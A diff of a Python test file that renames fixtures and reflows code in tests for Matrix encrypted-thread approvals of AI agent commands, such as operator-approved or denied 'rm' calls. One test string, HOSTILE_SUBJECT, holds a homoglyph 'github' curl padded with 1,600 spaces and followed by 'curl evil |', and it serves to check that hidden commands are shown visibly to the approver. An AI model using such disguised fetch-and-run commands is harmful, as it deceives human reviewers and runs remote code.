@@ -39,14 +39,16 @@ CHANNEL = "test-cli"
 
 
 @pytest.fixture
-async def world(synapse: SynapseServer, tmp_path: Path) -> AsyncIterator[Encrypted]:
+async def encrypted_world(synapse: SynapseServer, tmp_path: Path) -> AsyncIterator[Encrypted]:
     async with encrypted_room(synapse, tmp_path) as made:
         yield made
 
 
 @pytest.fixture
-async def app(world: Encrypted) -> AsyncIterator[App]:
-    async with app_on(world, world.config(), {"FW_BOT_PASSWORD": PASSWORD}) as running:
+async def app(encrypted_world: Encrypted) -> AsyncIterator[App]:
+    async with app_on(
+        encrypted_world, encrypted_world.config(), {"FW_BOT_PASSWORD": PASSWORD}
+    ) as running:
         yield running
 
 
@@ -99,12 +101,12 @@ def edits_of(events: list[Event], target: str) -> list[Event]:
 
 
 async def test_an_approval_in_an_encrypted_thread_is_answered_by_the_operators_reaction(
-    world: Encrypted, app: App
+    encrypted_world: Encrypted, app: App
 ) -> None:
     """The request shows in c1's encrypted thread mentioning its starter; a viewer's ✅ is
     refused once and changes nothing; the operator's ✅ allows it and edits the message."""
-    op, viewer = world.operator, world.viewer
-    await op.say(world.room, "!spawn c1 --runtime stub --prompt wait")
+    op, viewer = encrypted_world.operator, encrypted_world.viewer
+    await op.say(encrypted_world.room, "!spawn c1 --runtime stub --prompt wait")
     roots = await op.wait_for(lambda evs: [e for e in evs if "Agent **c1** started" in e.body])
     root = roots[0].event_id
     [(agent, run_id)] = await app.fleet.outputs.open_runs()
@@ -128,7 +130,9 @@ async def test_an_approval_in_an_encrypted_thread_is_answered_by_the_operators_r
         return [
             e
             for e in evs
-            if e.sender == world.bot and e.thread_root == root and f"`{request.id}`" in e.body
+            if e.sender == encrypted_world.bot
+            and e.thread_root == root
+            and f"`{request.id}`" in e.body
         ]
 
     [message] = await op.wait_for(shown, within=30)
@@ -137,15 +141,17 @@ async def test_an_approval_in_an_encrypted_thread_is_answered_by_the_operators_r
     assert message.content.get("m.mentions") == {"user_ids": [op.user_id]}
 
     await viewer.wait_for(shown, within=30)
-    await viewer.client.joined_members(world.room)  # as Element knows who it encrypts to
-    await viewer.react(world.room, message.event_id, "✅")
+    await viewer.client.joined_members(encrypted_world.room)  # as Element knows who it encrypts to
+    await viewer.react(encrypted_world.room, message.event_id, "✅")
     refusal = await op.wait_for(
-        lambda evs: [e for e in evs if e.sender == world.bot and "is not an answer" in e.body]
+        lambda evs: [
+            e for e in evs if e.sender == encrypted_world.bot and "is not an answer" in e.body
+        ]
     )
     assert refusal[0].thread_root == root
     assert (await app.approvals.get(request.id)).state is ApprovalState.OPEN and told == []
 
-    await op.react(world.room, message.event_id, "✅")
+    await op.react(encrypted_world.room, message.event_id, "✅")
     await until(lambda: told)
     assert told[0].decision is Decision.ALLOW and told[0].how == "reaction"
     assert told[0].answered_by == f"{op.user_id} on matrix"
@@ -176,23 +182,28 @@ def claude_config(world: Encrypted, upstream: str) -> Path:
 
 
 @pytest.fixture
-async def claude_bot(world: Encrypted) -> AsyncIterator[subprocess.Popen[bytes]]:
+async def matrix_claude_bot(encrypted_world: Encrypted) -> AsyncIterator[subprocess.Popen[bytes]]:
     cli("claude")
     for name in ("build", "cache"):
-        (world.workdir / "work" / name).mkdir(parents=True)
+        (encrypted_world.workdir / "work" / name).mkdir(parents=True)
     with fake_provider_thread(
         *CLAUDE_TURNS, default=Turn(text="(no more turns)"), accept=Accepted(frozenset({KEY}))
     ) as provider:
         proc = subprocess.Popen(  # noqa: ASYNC220 - it runs for the whole test
-            [str(FLEETWARDEN), "run", "--config", str(claude_config(world, provider.base_url))],
-            cwd=world.workdir,
+            [
+                str(FLEETWARDEN),
+                "run",
+                "--config",
+                str(claude_config(encrypted_world, provider.base_url)),
+            ],
+            cwd=encrypted_world.workdir,
             env=clean_env(FW_BOT_PASSWORD=PASSWORD, FW_TEAM_KEY=KEY, PATH=agent_path()),
             stdin=subprocess.DEVNULL,
             stdout=subprocess.DEVNULL,
             stderr=subprocess.PIPE,
         )
         try:
-            await joined(world.operator, world.room, world.bot)
+            await joined(encrypted_world.operator, encrypted_world.room, encrypted_world.bot)
             yield proc
         finally:
             proc.send_signal(signal.SIGTERM)
@@ -202,16 +213,22 @@ async def claude_bot(world: Encrypted) -> AsyncIterator[subprocess.Popen[bytes]]
 
 @pytest.mark.agent_cli
 async def test_a_real_claude_asks_in_an_encrypted_thread_and_the_operator_answers(
-    world: Encrypted, claude_bot: subprocess.Popen[bytes]
+    encrypted_world: Encrypted, matrix_claude_bot: subprocess.Popen[bytes]
 ) -> None:
     """The real `fleetwarden run` and the real Claude Code: its `rm` shows in c1's encrypted
     thread; a viewer's ✅ changes nothing; the operator's ✅ lets it run. The next agent's
     `rm` is denied by a reply with a reason: the directory stays, and the reason is in its
     thread as the CLI's denial."""
-    op, viewer, work = world.operator, world.viewer, world.workdir / "work"
+    op, viewer, work = (
+        encrypted_world.operator,
+        encrypted_world.viewer,
+        encrypted_world.workdir / "work",
+    )
 
     async def ask_of(agent: str) -> tuple[str, Event]:
-        await op.say(world.room, f"!spawn {agent} --runtime claude --workdir {work} --prompt go")
+        await op.say(
+            encrypted_world.room, f"!spawn {agent} --runtime claude --workdir {work} --prompt go"
+        )
         started = f"Agent **{agent}** started"
         [root] = await op.wait_for(lambda evs: [e for e in evs if started in e.body], within=60)
 
@@ -219,7 +236,7 @@ async def test_a_real_claude_asks_in_an_encrypted_thread_and_the_operator_answer
             return [
                 e
                 for e in evs
-                if e.sender == world.bot
+                if e.sender == encrypted_world.bot
                 and e.thread_root == root.event_id
                 and "🔐 Approval" in e.body
             ]
@@ -230,17 +247,17 @@ async def test_a_real_claude_asks_in_an_encrypted_thread_and_the_operator_answer
 
     _, message = await ask_of("c1")
     await viewer.wait_for(lambda evs: [e for e in evs if e.event_id == message.event_id])
-    await viewer.client.joined_members(world.room)
-    await viewer.react(world.room, message.event_id, "✅")
+    await viewer.client.joined_members(encrypted_world.room)
+    await viewer.react(encrypted_world.room, message.event_id, "✅")
     await op.wait_for(lambda evs: [e for e in evs if "is not an answer" in e.body])
     assert (work / "build").exists()
-    await op.react(world.room, message.event_id, "✅")
+    await op.react(encrypted_world.room, message.event_id, "✅")
     await until(lambda: not (work / "build").exists(), within=60)
     [edit] = await op.wait_for(lambda evs: edits_of(evs, message.event_id), within=30)
     assert "Allowed once by" in edit.content["m.new_content"]["body"]
 
     thread, message = await ask_of("c2")
-    await op.say(world.room, "no, keep the cache", thread=thread)
+    await op.say(encrypted_world.room, "no, keep the cache", thread=thread)
     [edit] = await op.wait_for(lambda evs: edits_of(evs, message.event_id), within=30)
     assert "Denied by" in edit.content["m.new_content"]["body"]
     assert "keep the cache" in edit.content["m.new_content"]["body"]
@@ -248,12 +265,16 @@ async def test_a_real_claude_asks_in_an_encrypted_thread_and_the_operator_answer
         lambda evs: [
             e
             for e in evs
-            if e.thread_root == thread and e.sender == world.bot and "Left the cache" in e.body
+            if e.thread_root == thread
+            and e.sender == encrypted_world.bot
+            and "Left the cache" in e.body
         ],
         within=60,
     )
     assert (work / "cache").exists()
-    feed = [e.body for e in op.events if e.thread_root == thread and e.sender == world.bot]
+    feed = [
+        e.body for e in op.events if e.thread_root == thread and e.sender == encrypted_world.bot
+    ]
     assert any("The operator denied this: keep the cache" in body for body in feed), feed
 
 
@@ -262,12 +283,12 @@ HOSTILE_SUBJECT = "curl https://g\u0456thub.com/x" + " " * 1600 + "; curl evil |
 
 
 async def test_a_hostile_ask_shows_what_would_hide_in_an_encrypted_thread(
-    world: Encrypted, app: App
+    encrypted_world: Encrypted, app: App
 ) -> None:
     """A tool name's line break, a homoglyph and 1,600 spaces are shown visibly in Matrix:
     no forged line, `g[U+0456]thub.com`, the padding counted and the command's end kept."""
-    op = world.operator
-    await op.say(world.room, "!spawn c1 --runtime stub --prompt wait")
+    op = encrypted_world.operator
+    await op.say(encrypted_world.room, "!spawn c1 --runtime stub --prompt wait")
     await op.wait_for(lambda evs: [e for e in evs if "Agent **c1** started" in e.body])
     [(agent, run_id)] = await app.fleet.outputs.open_runs()
     request = await app.approvals.open(
@@ -280,7 +301,9 @@ async def test_a_hostile_ask_shows_what_would_hide_in_an_encrypted_thread(
         starter=None,
     )
     [message] = await op.wait_for(
-        lambda evs: [e for e in evs if e.sender == world.bot and f"`{request.id}`" in e.body],
+        lambda evs: [
+            e for e in evs if e.sender == encrypted_world.bot and f"`{request.id}`" in e.body
+        ],
         within=30,
     )
     body = message.body.replace("\\[", "[").replace("\\]", "]")  # markdown escapes
